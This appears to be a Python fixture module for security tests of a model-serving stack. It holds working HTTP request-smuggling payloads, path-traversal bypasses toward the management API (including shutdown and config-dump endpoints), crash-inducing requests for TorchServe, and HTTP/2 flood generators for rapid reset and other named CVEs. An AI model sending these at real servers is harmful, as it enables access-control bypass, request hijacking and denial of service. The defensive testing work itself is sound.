"""Requests that mean one thing to one server and another to the next, as bytes; each with a second request hidden in it.

Sources: RFC 9112, section 11.2 (request smuggling); Kettle, "HTTP Desync Attacks" (2019); "HTTP/1.1 must die" (2025).
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
from raw_http import HOST, chunks, request, unframed

CHUNKED = "Transfer-Encoding: chunked"
HIDDEN = "/predictions/digits?hidden"  # if ever a server sees it as a request's path, one request has become two


def hidden() -> bytes:
    """The request that nobody sent."""
    return b"GET " + HIDDEN.encode() + b" HTTP/1.1\r\n" + HOST + b"\r\n"


@dataclass(frozen=True)
class Attack:
    """A request.

    Attributes:
        name: what is done.
        content: its bytes, with a path and a body that are answered.
        may_be_answered: whether a server may take it for a request, and answer it by 200; else it refuses, or closes.
    """

    name: str
    content: Callable[[str, bytes], bytes]
    may_be_answered: bool = False


def _length(value: str) -> Callable[[str, bytes], bytes]:
    return lambda path, _: unframed(path, f"Content-Length: {value}", rest=b"abcde" + hidden())


def _framed(*headers: str, before: bytes = b"0\r\n\r\n") -> Callable[[str, bytes], bytes]:
    """Headers that a server may take for a chunked body, which then ends at once, or for one of some length."""
    return lambda path, _: unframed(path, *headers, rest=before + hidden())


def _chunked(body: Callable[[bytes], bytes], behind: bytes = hidden()) -> Callable[[str, bytes], bytes]:
    return lambda path, content: unframed(path, CHUNKED, rest=body(content) + behind)


def _headers(*lines: str) -> Callable[[str, bytes], bytes]:
    return lambda path, content: request(path, *lines, body=content)


ATTACKS = [
    Attack("CL.TE", _framed("Content-Length: 60", CHUNKED)),
    Attack("TE.CL", _framed(CHUNKED, "Content-Length: 4", before=b"5\r\nabcde\r\n0\r\n\r\n")),
    Attack("TE.TE", _framed(CHUNKED, "Transfer-Encoding: identity")),
    Attack("TE twice", _framed(CHUNKED, CHUNKED, "Content-Length: 5")),
    Attack("another TE", _framed("Transfer-Encoding: xchunked", "Content-Length: 5")),
    Attack("TE list", _framed("Transfer-Encoding: gzip, chunked", "Content-Length: 5")),
    Attack("space before a colon", _framed("Transfer-Encoding : chunked", "Content-Length: 5")),
    Attack("tab in TE", _framed("Transfer-Encoding:\x0bchunked", "Content-Length: 5")),
    Attack("quoted TE", _framed('Transfer-Encoding: "chunked"', "Content-Length: 5")),
    Attack("TE on a folded line", _framed("Transfer-Encoding:\r\n chunked", "Content-Length: 5")),
    Attack("two lengths", _framed("Content-Length: 5", "Content-Length: 60")),
    Attack("a list of lengths", _length("5, 60")),
    Attack("a length with a plus", _length("+5")),
    Attack("a length below nought", _length("-5")),
    Attack("a length of 20 digits", _length("99999999999999999999")),
    Attack("a length in hex", _length("0x5")),
    Attack("a length of two words", _length("5 60")),
    Attack("a header on a folded line", _headers("X-A: 1\r\n X-B: 2"), may_be_answered=True),
    Attack("a header before the first", lambda path, body: request(path, body=body).replace(HOST, b" X: y\r\n" + HOST)),
    Attack("lines that end by LF", lambda path, _: request(path).replace(b"\r\n", b"\n"), may_be_answered=True),
    Attack("LF in a value", _headers("X-A: 1\nContent-Length: 0"), may_be_answered=False),
    Attack("CR in a value", _headers("X-A: 1\rContent-Length: 0"), may_be_answered=True),
    Attack("NUL in a value", _headers("X-A: a\x00b")),
    Attack("a control character in a value", _headers("X-Request-Id: a\x0bb")),
    Attack("a control character in a name", _headers("X\x01A: b")),
    Attack("a space in a name", _headers("X A: b")),
    Attack("no colon", _headers("Broken")),
    Attack("an empty name", _headers(": b")),
    Attack("bytes above 127", _headers("X-User-Id: \xff\xfe", "X-Request-Id: caf\xe9"), may_be_answered=True),
    Attack("a chunk with an extension", _chunked(lambda body: chunks(body, extension=b";a=b"), b""), may_be_answered=True),
    Attack("LF in an extension", _chunked(lambda body: chunks(body, extension=b";a\nb"))),
    Attack(
        "a long extension",
        _chunked(lambda body: chunks(body, extension=b";" + b"a" * 100_000), b""),
        may_be_answered=True,
    ),
    Attack("chunks that end by LF", _chunked(lambda body: b"%x\n%s\n0\n\n" % (len(body), body))),
    Attack("a chunk that is no number", _chunked(lambda body: b"zz\r\n" + body + b"\r\n0\r\n\r\n")),
    Attack("a chunk below nought", _chunked(lambda body: b"-1\r\n" + body + b"\r\n0\r\n\r\n")),
    Attack("a chunk of 65 bits", _chunked(lambda _: b"10000000000000003\r\nabc\r\n0\r\n\r\n")),
    Attack(
        "a chunk that is longer than it says",
        _chunked(lambda _: b"3\r\nabcdef\r\n0\r\n\r\n", b""),
        may_be_answered=True,
    ),
    Attack(
        "a length in a trailer",
        _chunked(lambda body: chunks(body, end=b"0\r\nContent-Length: 5\r\n\r\n"), b""),
        may_be_answered=True,
    ),
    Attack("HTTP/1.0 in chunks", lambda path, body: _old(unframed(path, CHUNKED, rest=chunks(body) + hidden()))),
    Attack("bytes before a request", lambda path, body: b"\x01\x02\r\n" + request(path, body=body)),
    Attack("headers of 9 kB", _headers("X-Long: " + "x" * 9000)),
    Attack("headers of 50 kB", _headers(*(f"X-{number}: {'x' * 500}" for number in range(90)))),
    Attack("headers of 100 kB", _headers("X-Long: " + "x" * 100_000)),
    Attack("3,000 headers", _headers(*(f"X-{number}: y" for number in range(3000)))),
    Attack("a path of 5 kB", lambda path, body: request(f"{path}&{'a' * 5000}", body=body), may_be_answered=True),
    Attack("a path of 100 kB", lambda path, body: request(f"{path}&{'a' * 100_000}", body=body)),
    Attack("headers that a hop would drop", _headers("Connection: close, Content-Length, X-User-Id"), may_be_answered=True),
    Attack("two hosts", _headers("Host: 127.0.0.1:8081"), may_be_answered=True),
    Attack("another host", _headers("X-Forwarded-Host: 127.0.0.1:8081", "X-Original-URL: /models"), may_be_answered=True),
    Attack("another method", _headers("X-HTTP-Method-Override: DELETE"), may_be_answered=True),
    Attack("a body that is said to be zipped", _headers("Content-Encoding: gzip"), may_be_answered=True),
    Attack("an unknown expectation", _headers("Expect: bananas"), may_be_answered=True),
    Attack("HTTP/0.9", lambda path, _: f"GET {path}\r\n\r\n".encode() + hidden()),
    Attack("HTTP/9.9", lambda path, body: request(path, body=body).replace(b"HTTP/1.1", b"HTTP/9.9")),
    Attack("HTTP/2 by its name", lambda path, body: request(path, body=body).replace(b"HTTP/1.1", b"HTTP/2.0")),
]

PATHS_TO_MANAGEMENT = [
    "/models",
    "//models",
    "/predictions/..%2fmodels",
    "/predictions/..%2Fmodels",
    "/predictions/..%5cmodels",
    "/predictions/../models",
    "/predictions/%2e%2e/models",
    "/predictions/.%2e/models",
    "/predictions/%252e%252e/models",
    "/predictions/digits/1.0/../../../models",
    "/predictions/digits/..;/..;/models",
    "/predictions/digits;/../../models",
    "/predictions/digits%00/../../models",
    "/predictions/digits\x00",
    "/predictions/%c0%ae%c0%ae/models",
    "/predictions/\xc0\xae\xc0\xae/models",
    "/predictions/\\..\\models",
    "\\models",
    "/v1/models/..%2f..%2fmodels:predict",
    "/v1/models/../../models",
    "/v2/../models",
    "/PREDICTIONS/../models",
    "/healthz/../models",
    "/assignments/../models",
    "/predictions/digits?x=/../models",
    "/predictions/digits#/../../models",
    "http://127.0.0.1:8081/models",
    "http://models.example/models",
    "*",
    "models",
    "?/models",
    "/stats",
    "/config_dump",
    "/quitquitquit",
    "/reopen_logs",
    "/metrics",
    "/workflows",
]


def odd_requests() -> Iterator[bytes]:
    """Methods that lead elsewhere, and protocols that would be spoken instead."""
    yield b"TRACE /predictions/digits HTTP/1.1\r\n" + HOST + b"\r\n"
    yield b"CONNECT 127.0.0.1:8081 HTTP/1.1\r\nHost: 127.0.0.1:8081\r\n\r\n"
    yield b"FUBAR /predictions/digits HTTP/1.1\r\n" + HOST + b"\r\n"
    yield b"DELETE /models/digits HTTP/1.1\r\n" + HOST + b"\r\n"
    web_socket = b"Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n"
    yield b"GET /predictions/digits HTTP/1.1\r\n" + HOST + b"Connection: Upgrade\r\n" + web_socket + b"\r\n"
    settings = b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    yield b"GET /models HTTP/1.1\r\n" + HOST + b"Connection: Upgrade, HTTP2-Settings\r\n" + settings + b"\r\n"


FORM = "Content-Type: multipart/form-data; boundary=cut"


def _form(head: str) -> bytes:
    return f"--cut\r\nContent-Disposition: form-data{head}\r\n\r\nabc\r\n--cut--\r\n".encode()


FAULTS_OF_TORCHSERVE = {  # what its frontend answers with 500, whoever asks
    "a form with a broken escape": request(
        "/predictions/digits", "Content-Type: application/x-www-form-urlencoded", body=b"data=%zz"
    ),
    "a form's part without a name": request("/predictions/digits", FORM, body=_form("")),
    "a form's part in an unknown alphabet": request(
        "/predictions/digits", FORM, body=_form('; name="data"\r\nContent-Type: text/plain; charset=utf-99')
    ),
}

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ASKED = [(":method", "GET"), (":scheme", "http"), (":authority", "models.example"), (":path", "/predictions/digits")]


STARTED = PREFACE + SettingsFrame(0).serialize()


def _taken_back() -> bytes:
    """CVE-2023-44487, rapid reset."""
    header = Encoder().encode(ASKED)
    return STARTED + b"".join(
        HeadersFrame(stream, header, flags=["END_HEADERS", "END_STREAM"]).serialize()
        + RstStreamFrame(stream, error_code=8).serialize()
        for stream in range(1, 20_001, 2)
    )


def _without_end() -> bytes:
    """CVE-2024-30255, CONTINUATION."""
    more = (ContinuationFrame(1, Encoder().encode([(f"x-{number}", "y" * 1000)])) for number in range(2000))
    return STARTED + HeadersFrame(1, Encoder().encode(ASKED)).serialize() + b"".join(one.serialize() for one in more)


FLOODS: dict[str, Callable[[], bytes]] = {  # frames of HTTP/2 that cost who sends them little
    "requests taken back": _taken_back,
    "headers without end": _without_end,
    "pings": lambda: STARTED + PingFrame(0, b"12345678").serialize() * 20_000,  # CVE-2019-9512
    "settings": lambda: STARTED + SettingsFrame(0).serialize() * 20_000,  # CVE-2019-9515
}


def _old(content: bytes) -> bytes:
    return content.replace(b"HTTP/1.1", b"HTTP/1.0", 1)
